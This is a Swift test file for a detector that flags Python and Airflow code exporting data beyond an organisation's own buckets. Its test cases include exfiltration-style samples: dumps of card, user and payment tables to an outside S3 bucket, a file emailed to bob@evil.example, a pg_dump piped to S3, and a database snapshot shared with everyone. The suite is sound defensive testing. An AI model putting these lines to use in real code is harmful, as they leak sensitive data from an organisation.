import Detection
import Detectors
import Testing

private func python(_ says: String, _ text: String, line: Int? = nil) -> ExpectedReading {
  ExpectedReading(
    path: "dags/x.py",
    old: nil,
    new: text,
    direction: .widened,
    kind: "data-export.flow",
    line: line,
    says: says
  )
}

private func edit(
  _ old: String,
  _ new: String,
  _ direction: Direction?,
  _ kind: String?,
  _ says: String
) -> ExpectedReading {
  ExpectedReading(
    path: "dags/x.py",
    old: old,
    new: new,
    direction: direction,
    kind: kind,
    line: nil,
    says: says
  )
}

@Suite struct PythonExportTests {
  private static let cases: [ExpectedReading] = [
    python(
      "an export of cards to s3://drop/c.csv (outside the organisation), daily",
      "with DAG('x', schedule='@daily'):\n  SqlToS3Operator(\n    task_id='a', query='SELECT * FROM cards',\n    s3_bucket='drop', s3_key='c.csv')\n"
    ),
    python(
      "an export of users to gs://acme-x/u (inside",
      "PostgresToGCSOperator(sql='SELECT * FROM users', bucket='acme-x', filename='u')"
    ),
    python(
      "an export of orders to s3://drop/",
      "DynamoDBToS3Operator(dynamodb_table_name='orders', s3_bucket_name='drop')"
    ),
    python(
      "to gs://drop/x-*.csv (outside",
      "BigQueryToGCSOperator(source_project_dataset_table='p.d.t', destination_cloud_storage_uris=['gs://drop/x-*.csv'])"
    ),
    python(
      "to sftp_partner /in/x",
      "S3ToSFTPOperator(s3_bucket='acme-x', s3_key='k', sftp_conn_id='sftp_partner', sftp_path='/in/x')"
    ),
    python(
      "an export of r.csv to bob@evil.example (outside",
      "EmailOperator(to='bob@evil.example', files=['r.csv'])"
    ),
    python(
      "an export of pay.* to s3://drop/p",
      "BashOperator(bash_command='pg_dump pay | aws s3 cp - s3://drop/p')"
    ),
    python(
      "an export of dump.sql to s3://drop/k",
      "BUCKET = 'drop'\ns3.upload_file('dump.sql', BUCKET, 'k')",
      line: 2
    ),
    python("(whose owner cannot be told)", "s3.upload_file('dump.sql', bucket, 'k')"),
    python(
      "an export of cards to s3a://drop/c",
      "df = spark.table('cards')\nx = df.filter('a')\nx.write.mode('overwrite').parquet('s3a://drop/c')"
    ),
    python(
      "an export of users to s3://drop/u.csv",
      "df = pd.read_sql('SELECT * FROM users', c)\ndf.to_csv('s3://drop/u.csv')"
    ),
    python("an export of df to s3://acme-x/a (inside", "df.to_parquet(f's3://acme-x/a')"),
    python(
      "an export of pay.* to p.sql",
      "subprocess.run(['pg_dump', 'pay', '-f', 'p.sql'], check=True)"
    ),
    python("an export of pay.* to p.sql", "os.system('pg_dump pay > p.sql')"),
    python(
      "an export of cards to s3://drop/",
      "cur.execute(\"\"\"\nUNLOAD ('SELECT * FROM cards') TO 's3://drop/'\n\"\"\")"
    ),
    python(
      "an export of cards to s3://{bucket}/ (whose",
      "cur.execute(f\"UNLOAD ('SELECT * FROM cards') TO 's3://{bucket}/'\")"
    ),
    python(
      "to everybody (outside",
      "rds.modify_db_snapshot_attribute(DBSnapshotIdentifier='s', ValuesToAdd=['all'])"
    ),
    edit(
      "x.to_csv('s3://acme-x/a')",
      "x.to_csv('s3://drop/a')",
      .widened,
      "data-export.sink",
      "to s3://drop/a"
    ),
    edit("x.to_csv('s3://drop/a')", "# y\nx.to_csv(\n  \"s3://drop/a\",\n)", .equal, nil, ""),
    edit(
      "DAG('a', schedule='@daily')\nx.to_csv('s3://drop/a')",
      "DAG('a', schedule='@hourly')\nx.to_csv('s3://drop/a')",
      .widened,
      "data-export.schedule",
      "hourly"
    ),
    edit("x = 1", "x = 'open", nil, nil, "a string has no end"),
    edit("x = 1", "def upload(a):\n  return a.strip()\n", .equal, nil, ""),
  ]

  @Test(arguments: cases)
  func call(_ expected: ExpectedReading) {
    checkReading(expected, by: ExportsDetector(), owned: ["acme-*"])
  }
}
